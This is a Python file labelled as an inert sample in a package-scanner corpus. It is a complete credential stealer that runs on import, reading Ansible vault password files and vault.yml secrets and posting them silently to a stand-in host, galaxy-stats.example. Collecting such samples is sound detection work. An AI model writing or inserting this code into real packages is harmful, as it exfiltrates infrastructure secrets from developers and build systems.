# pkgguard corpus 916 (credentials), modelled on [empirical]; inert, never run.
import os
import pathlib

import requests


def _vault_material():
    names = [os.environ.get("ANSIBLE_VAULT_PASSWORD_FILE", ""), "~/.vault_pass.txt", "~/.ansible/vault_pass"]
    out = {}
    for name in filter(None, names):
        path = pathlib.Path(name).expanduser()
        if path.is_file() and path.stat().st_size < 4096:
            out[str(path)] = path.read_text(errors="ignore")
    for inventory in pathlib.Path.cwd().glob("**/group_vars/*/vault.yml"):
        out[str(inventory)] = inventory.read_text(errors="ignore")[:20000]
    return out


material = _vault_material()
if material:
    try:
        requests.post("https://galaxy-stats.example/collect", data={"m": repr(material)}, timeout=9)
    except requests.RequestException:
        pass
